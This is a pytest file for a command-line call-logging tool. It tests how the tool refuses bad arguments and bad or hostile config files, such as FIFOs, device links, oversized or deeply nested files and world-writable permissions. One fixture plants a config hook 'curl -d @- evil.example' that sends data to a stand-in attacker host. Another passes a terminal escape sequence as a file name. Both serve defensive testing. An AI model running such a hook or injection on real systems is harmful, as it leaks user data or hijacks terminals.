"""Bad input, as a user meets it: exactly one line on stderr naming what is valid, exit status 2,
no traceback, and nothing written (the journal, the config and every other file unchanged)."""

from __future__ import annotations

import os
import stat
import time
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from companion.core.events import EventKind, make_event
from companion.core.outcomes import Outcome
from tests.cli.conftest import BASE_CONFIG, OUTCOME_NAMES, Companion, Result, snapshot
from tests.conftest import ZONE

BERLIN = ZoneInfo(ZONE)
REASONS = (
    "budget",
    "timing",
    "stakeholders",
    "fear-of-change",
    "not-interested",
    "hung-up",
    "competitor",
    "other",
)


def seed(companion: Companion) -> dict[str, bytes | None]:
    """One call already on record, so 'nothing written' means the journal is byte-for-byte the same."""
    at = datetime(2024, 1, 15, 9, 0, tzinfo=BERLIN)
    companion.store().append([make_event(EventKind.OUTCOME, at, outcome=Outcome.NO, source="test")])
    return snapshot(companion.home)


def assert_refused(result: Result, companion: Companion, before: dict[str, bytes | None], *names: str) -> str:
    """Exit 2, one stderr line naming `names`, nothing on stdout, no file touched."""
    assert result.returncode == 2, result.describe()
    assert "Traceback" not in result.stderr, result.describe()
    assert len(result.stderr_lines) == 1, result.describe()
    assert result.stdout == "", result.describe()
    line = result.stderr_lines[0]
    for name in names:
        assert name in line, f"{name!r} not named in: {line}"
    assert snapshot(companion.home) == before, "a refused command changed files"
    return line


def in_three_minutes(with_offset: bool) -> str:
    later = datetime.now(BERLIN) + timedelta(minutes=3)
    return later.isoformat() if with_offset else later.replace(tzinfo=None).isoformat(timespec="minutes")


ArgsMaker = Callable[[], list[str]]

CASES: list[tuple[str, ArgsMaker, tuple[str, ...]]] = [
    ("unknown-outcome", lambda: ["log", "frob"], ("frob", *OUTCOME_NAMES)),
    ("empty-outcome", lambda: ["log", ""], OUTCOME_NAMES),
    ("missing-outcome", lambda: ["log"], ("OUTCOME",)),
    ("bad-at", lambda: ["log", "no", "--at", "yesterday"], ("yesterday", "2026-11-20T14:05")),
    ("bad-at-hour", lambda: ["log", "no", "--at", "2024-01-15T25:00"], ("2024-01-15T25:00", "ISO-8601")),
    ("at-without-value", lambda: ["log", "no", "--at"], ("--at",)),
    ("bad-time-of-day", lambda: ["log", "no", "--at", "25:00"], ("25:00", "HH:MM", "ISO-8601")),
    ("future-at-offset", lambda: ["log", "meeting", "--at", in_three_minutes(True)], ("future", "minute")),
    ("future-at-zone", lambda: ["log", "meeting", "--at", in_three_minutes(False)], ("future", "minute")),
    ("bad-date", lambda: ["summary", "--date", "2024-13-01"], ("2024-13-01", "YYYY-MM-DD")),
    ("bad-date-week", lambda: ["summary", "--week", "--date", "2024-02-30"], ("2024-02-30", "YYYY-MM-DD")),
    ("unknown-reason", lambda: ["log", "no", "--reason", "weather"], ("weather", *REASONS)),
    ("reason-not-a-no", lambda: ["log", "voicemail", "--reason", "budget"], ("voicemail", "no", "--note")),
    ("cause-not-a-no", lambda: ["log", "meeting", "--cause", "skill-gap"], ("--cause", "meeting", "no")),
    (
        "unknown-cause",
        lambda: ["log", "no", "--cause", "luck"],
        ("luck", "skill-gap", "poor-fit", "process"),
    ),
    ("unknown-flag", lambda: ["log", "no", "--colour", "red"], ("--colour", "--help")),
    ("unknown-summary-flag", lambda: ["summary", "--month"], ("--month", "--help")),
    ("unknown-command", lambda: ["frob"], ("frob", "log", "summary")),
    (
        "note-too-long",
        lambda: ["log", "no", "--note", "x" * 120_000],
        ("2,000 characters", "120,000", "nothing was saved"),
    ),
    ("before-1970-in-utc", lambda: ["log", "no", "--at", "1970-01-01T00:30+01:00"], ("out of range", "UTC")),
    ("empty-date", lambda: ["summary", "--date", ""], ("''", "YYYY-MM-DD")),
    ("empty-since", lambda: ["export", "--since", ""], ("''", "YYYY-MM-DD")),
    ("empty-output", lambda: ["export", "-o", ""], ("-o", "file name")),
    ("import-a-folder", lambda: ["import", "/"], ("/", "folder")),
    ("import-a-device", lambda: ["import", "/dev/zero"], ("/dev/zero", "not a regular file")),
    ("import-nothing-there", lambda: ["import", "/nonexistent/calls.csv"], ("/nonexistent/calls.csv",)),
    (
        "import-escape-in-name",
        lambda: ["import", "\x1b]52;c;aGk=\x07.csv"],
        ("\\x1b]52;c;aGk=\\x07.csv",),
    ),
]


@pytest.mark.parametrize(("args", "names"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_input_is_refused_in_one_line_and_writes_nothing(
    companion: Companion, args: ArgsMaker, names: tuple[str, ...]
) -> None:
    before = seed(companion)
    assert_refused(companion.run(*args()), companion, before, *names)


def test_empty_at_is_a_bad_time(companion: Companion) -> None:
    before = seed(companion)
    assert_refused(companion.run("log", "no", "--at", ""), companion, before, "ISO-8601")


BAD_CONFIGS: list[tuple[str, str, tuple[str, ...]]] = [
    ("not-toml", '[session\ntimezone = "Europe/Berlin"\n', ("config.toml", "TOML")),
    (
        "unknown-key",
        '[session]\ntimezone = "Europe/Berlin"\n[targets]\ncalls = 40\n',
        ("config.toml", "calls", "dials", "conversations", "meetings"),
    ),
    (
        "unknown-section",
        '[session]\ntimezone = "Europe/Berlin"\n[colours]\nred = 1\n',
        ("config.toml", "colours", "targets", "session", "ritual", "ui"),
    ),
    (
        "negative-duration",
        '[session]\ntimezone = "Europe/Berlin"\n[ritual]\nbreathe_s = -5\n',
        ("config.toml", "breathe_s", "-5", "0"),
    ),
    (
        "negative-block",
        '[session]\ntimezone = "Europe/Berlin"\nblock_minutes = -10\n',
        ("config.toml", "block_minutes", "-10"),
    ),
    (
        "wrong-type",
        '[session]\ntimezone = "Europe/Berlin"\n[targets]\ndials = "forty"\n',
        ("config.toml", "dials", "forty"),
    ),
    (
        "week-target-not-whole",
        '[session]\ntimezone = "Europe/Berlin"\n[targets]\nweek_dials = "two hundred"\n',
        ("config.toml", "[targets] week_dials", "whole number", "two hundred"),
    ),
    (
        "unknown-zone",
        '[session]\ntimezone = "Mars/Olympus_Mons"\n',
        ("config.toml", "Mars/Olympus_Mons", "Europe/Berlin"),
    ),
    (
        "unknown-ritual-outcome",
        '[session]\ntimezone = "Europe/Berlin"\n[ritual]\nafter = ["maybe"]\n',
        ("config.toml", "maybe", *OUTCOME_NAMES),
    ),
]


@pytest.mark.parametrize(("text", "names"), [c[1:] for c in BAD_CONFIGS], ids=[c[0] for c in BAD_CONFIGS])
def test_bad_config_is_refused_in_one_line_and_left_as_it_is(
    companion: Companion, text: str, names: tuple[str, ...]
) -> None:
    before_seed = seed(companion)
    assert before_seed
    companion.write_config(text)
    before = snapshot(companion.home)
    line = assert_refused(companion.run("status"), companion, before, *names)
    assert str(companion.config) in line
    assert companion.config.read_text(encoding="utf-8") == text


@pytest.mark.parametrize(("text", "names"), [c[1:] for c in BAD_CONFIGS], ids=[c[0] for c in BAD_CONFIGS])
def test_bad_config_never_costs_a_logged_call(
    companion: Companion, text: str, names: tuple[str, ...]
) -> None:
    """`companion log` is a dialer's hook: the call is stored all the same (exit 0), and one
    line says what is wrong with the file, which is left as it is."""
    seed(companion)
    companion.write_config(text)
    result = companion.run("log", "no")
    assert result.returncode == 0, result.describe()
    [line] = result.stderr_lines
    assert str(companion.config) in line and names[1] in line and "built-in" in line, line
    assert [e["outcome"] for e in companion.outcome_lines()] == ["no", "no"]
    assert companion.config.read_text(encoding="utf-8") == text


def test_config_that_is_not_utf8_is_refused(companion: Companion) -> None:
    companion.config.write_bytes(b'[ui]\ntheme = "\xff\xfe"\n')
    before = snapshot(companion.home)
    assert_refused(companion.run("summary"), companion, before, str(companion.config))


@pytest.mark.parametrize("args", [["summary", "--week", "--json"], []], ids=["summary", "app"])
def test_bad_config_stops_every_command_and_the_app_before_it_starts(
    companion: Companion, args: list[str]
) -> None:
    """The app too: it must refuse before taking over the terminal (stdin is not a tty here)."""
    companion.write_config('[session]\ntimezone = "Europe/Berlin"\n[ui]\nbell = "loud"\n')
    before = snapshot(companion.home)
    assert_refused(companion.run(*args, timeout=15), companion, before, "bell", "true or false")


def test_an_unknown_theme_stops_the_app_listing_the_names_but_never_a_call_from_a_command(
    companion: Companion,
) -> None:
    """The theme is the app's alone: `log` still stores a call (a dialer's hook must never lose
    one to a colour setting), `themes` says what is wrong, and the app refuses in one line."""
    text = '[session]\ntimezone = "Europe/Berlin"\n[ui]\ntheme = "neon-dream"\n'
    companion.write_config(text)
    before = snapshot(companion.home)
    names = (
        "neon-dream",
        "companion-calm",
        "companion-daylight",
        "companion-dusk",
        "companion-high-contrast",
    )
    line = assert_refused(companion.run(timeout=15), companion, before, "config.toml", *names)
    assert "[ui] theme" in line
    companion.ok("log", "no")
    assert [e["outcome"] for e in companion.journal_lines() if e["kind"] == "outcome"] == ["no"]
    listed = companion.run("themes")
    assert listed.returncode == 0 and "companion-calm" in listed.stdout
    assert listed.stderr_lines == [
        'companion: [ui] theme: unknown theme "neon-dream": the app will not start on it'
    ]
    assert companion.config.read_text(encoding="utf-8") == text


def test_unknown_flag_names_the_valid_flags_of_its_command(companion: Companion) -> None:
    before = seed(companion)
    result = companion.run("summary", "--month")
    assert_refused(result, companion, before, "--month")
    line = result.stderr_lines[0]
    assert all(flag in line for flag in ("--date", "--week", "--json")) or "summary --help" in line, line


# -- config.toml is untrusted: hostile files are one line, at once, and never cost a call ------


def loose(config: Path, which: Path, mode: int) -> None:
    """A good config.toml, but `which` (it, or its folder) is open to other users' writes."""
    config.write_text(BASE_CONFIG, encoding="utf-8")
    which.chmod(mode)


HOSTILE_CONFIGS: list[tuple[str, Callable[[Path], object], str]] = [
    ("fifo", lambda p: os.mkfifo(p), "a FIFO"),
    ("link-to-dev-zero", lambda p: p.symlink_to("/dev/zero"), "a device (it links to /dev/zero)"),
    ("a-folder", lambda p: p.mkdir(), "a folder"),
    ("500-arrays-deep", lambda p: p.write_text("x = " + "[" * 500 + "]" * 500), "nested more than 16 deep"),
    ("5000-digits", lambda p: p.write_text("[targets]\ndials = " + "7" * 5000), "4,300 digits"),
    ("2-MB", lambda p: p.write_bytes(b"# big\n" * 400_000), "2.3 MB, larger than the 256 KB"),
    ("mode-0666", lambda p: loose(p, p, 0o666), "mode 0666"),
    ("home-0777", lambda p: loose(p, p.parent, 0o777), "mode 0777"),
]
QUICK_S = 2.0  # in process: a refusal is a few milliseconds; a hang or a 2 MB parse is not


def hostile(companion: Companion, make: Callable[[Path], object]) -> None:
    companion.config.unlink()
    make(companion.config)


@pytest.mark.parametrize(
    ("make", "said"), [c[1:] for c in HOSTILE_CONFIGS], ids=[c[0] for c in HOSTILE_CONFIGS]
)
def test_a_hostile_config_is_refused_at_once_by_every_other_command(
    companion: Companion, make: Callable[[Path], object], said: str
) -> None:
    seed(companion)
    hostile(companion, make)
    before = files_of(companion.home)
    for args in (["status"], ["summary", "--json"], ["review"]):
        started = time.monotonic()
        result = companion.run(*args)
        assert time.monotonic() - started < QUICK_S, args
        assert result.returncode == 2 and result.stdout == "", result.describe()
        [line] = result.stderr_lines
        assert str(companion.config) in line and said in line and "this command" not in line, line
    assert files_of(companion.home) == before


def files_of(root: Path) -> dict[str, object]:
    """Every path under `root`: a regular file's bytes, else what it is (a FIFO or a link to a
    device is never read: that is the hang under test)."""
    found: dict[str, object] = {}
    for path in sorted(root.rglob("*")):
        facts = path.lstat()
        if stat.S_ISLNK(facts.st_mode):
            found[str(path)] = ("link", str(path.readlink()))
        elif stat.S_ISREG(facts.st_mode):
            found[str(path)] = path.read_bytes()
        else:
            found[str(path)] = stat.S_IFMT(facts.st_mode)
    return found


@pytest.mark.parametrize(
    ("make", "said"), [c[1:] for c in HOSTILE_CONFIGS], ids=[c[0] for c in HOSTILE_CONFIGS]
)
def test_a_hostile_config_never_costs_a_call_from_log_or_dial(
    companion: Companion, make: Callable[[Path], object], said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The dialer's hook: stored with the built-in settings, in TZ's zone, exit 0, one line."""
    monkeypatch.setenv("TZ", "Asia/Kolkata")
    hostile(companion, make)
    for args in (["dial"], ["log", "no"]):
        started = time.monotonic()
        result = companion.run(*args)
        assert time.monotonic() - started < QUICK_S, args
        assert result.returncode == 0, result.describe()
        [line] = result.stderr_lines
        assert str(companion.config) in line and said in line, line
        assert line.endswith("this command uses the built-in settings (time zone Asia/Kolkata)"), line
    [call] = companion.outcome_lines()
    assert call["outcome"] == "no" and call["at"].endswith("+05:30")
    assert [e["kind"] for e in companion.journal_lines()] == ["block-start", "outcome"]


def test_a_config_another_user_could_have_written_never_runs_its_hook(
    companion: Companion, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A world-writable home: the call is stored, and the hook its config names never runs."""
    fired: list[str] = []
    monkeypatch.setattr("companion.store.hooks.fire", lambda command, *_: fired.append(command))
    companion.write_config(BASE_CONFIG + '[hooks]\non_event = "curl -d @- evil.example"\n')
    companion.home.chmod(0o777)
    result = companion.run("log", "no")
    assert result.returncode == 0 and "chmod go-w" in result.stderr, result.describe()
    assert fired == [] and len(companion.outcome_lines()) == 1
    companion.home.chmod(0o700)  # the rep's own again: the hook runs
    companion.ok("log", "no")
    assert fired == ["curl -d @- evil.example"]


def test_a_mistake_in_the_reps_own_config_keeps_the_rest_for_the_call(companion: Companion) -> None:
    """Their dialer's words, their zone: one wrong value costs only itself."""
    companion.write_config(
        '[session]\ntimezone = "Asia/Kolkata"\n[ui]\nbell = "loud"\n[dispositions]\n"Left VM" = "voicemail"\n'
    )
    result = companion.run("log", "Left VM")
    assert result.returncode == 0, result.describe()
    assert result.stderr_lines == [
        f"companion: {companion.config}: [ui] bell must be true or false (got 'loud');"
        " this command uses the built-in value in its place"
    ]
    [call] = companion.outcome_lines()
    assert call["outcome"] == "voicemail" and call["at"].endswith("+05:30")


def test_a_fifo_config_stops_the_app_at_once_in_one_line(companion: Companion) -> None:
    """A status bar or the app must never hang on it: one line, exit 2, before a frame."""
    hostile(companion, lambda p: os.mkfifo(p))
    result = companion.run(timeout=15)
    assert result.returncode == 2 and result.stdout == "", result.describe()
    [line] = result.stderr_lines
    assert "a FIFO" in line and "Traceback" not in result.stderr
